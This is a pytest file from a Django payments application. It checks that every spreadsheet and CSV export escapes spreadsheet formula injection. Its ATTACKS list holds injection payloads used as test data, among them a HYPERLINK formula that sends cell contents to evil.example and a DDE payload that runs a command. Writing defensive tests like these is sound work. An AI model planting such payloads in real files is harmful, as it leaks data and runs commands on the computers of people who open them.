"""Every spreadsheet the application hands out (the register, the payment list as xlsx and CSV,
the settlement report, the coverage tables) writes text that a spreadsheet would run as a
formula as plain text: a name typed as `=HYPERLINK(...)` stays a name when an officer opens
the file in Excel or LibreOffice."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from org.downloads import FORMULA_PREFIXES, cell_text, neutralise, safe_cell
from payments.services import payment_list_close
from reports import coverage
from tests.factories import RecipientFactory
from tests.helpers import reconciled_with_a_discrepancy_per_line
from tests.payments.test_generate import generate, person

pytestmark = pytest.mark.django_db
DEC = datetime.date(2026, 12, 1)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def test_the_cell_helpers():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Nguyễn Văn An") == "Nguyễn Văn An"
    assert cell_text("\x07=1") == "'=1"  # control characters go first
    assert cell_text("Lê\x0bThị") == "LêThị"
    assert safe_cell(500000) == 500000 and safe_cell(None) is None
    assert all(neutralise(a).startswith("'") for a in ATTACKS)


@pytest.fixture
def files(client, hue_units, officers):
    """Every export of a district whose people, recipients and provider messages were typed
    as formulas."""
    commune = hue_units["commune"]
    people = []
    for i, attack in enumerate(ATTACKS):
        b = person(
            commune, datetime.date(1940 + i, 1, 1), ["K5C"], full_name=attack, address=attack
        )
        RecipientFactory(beneficiary=b, full_name=attack, relationship=attack)
        people.append(b)
    period = generate(hue_units["district"], DEC)
    payment_list_close(period=period, closed_by=officers["district"])
    period.payment_list.lines.update(status="failed", failure_reason=ATTACKS[0])
    reconciled_with_a_discrepancy_per_line(period)  # one on each commune's line
    coverage.coverage_refresh(month=DEC, unit=hue_units["province"], register=True)

    def get(who, url, params=None):
        client.force_login(officers[who])
        response = client.get(url, params or {})
        assert response.status_code == 200, url
        return response.content

    pk = period.pk
    return {
        "register.xlsx": get("commune", reverse("beneficiaries:export")),
        "list.xlsx": get("district", reverse("payments:export", args=[pk, "xlsx"])),
        "list.csv": get("district", reverse("payments:export", args=[pk, "csv"])),
        "settlement.xlsx": get("district", reverse("payments:settlement", args=[pk])),
        "coverage.xlsx": get("commune", reverse("reports:dashboard"), {"format": "xlsx"}),
    }


def cells(name: str, content: bytes) -> list:
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [value for row in rows for value in row]
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for ws in workbook:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                found.append(cell.value)
    return found


def test_no_export_hands_out_a_formula(files):
    for name, content in files.items():
        values = [v for v in cells(name, content) if isinstance(v, str)]
        live = [v for v in values if v.startswith(FORMULA_PREFIXES)]
        assert live == [], name
        # The people are in the file, as text.
        assert any(v == "'" + ATTACKS[0] or v.startswith("'=HYPERLINK") for v in values), name
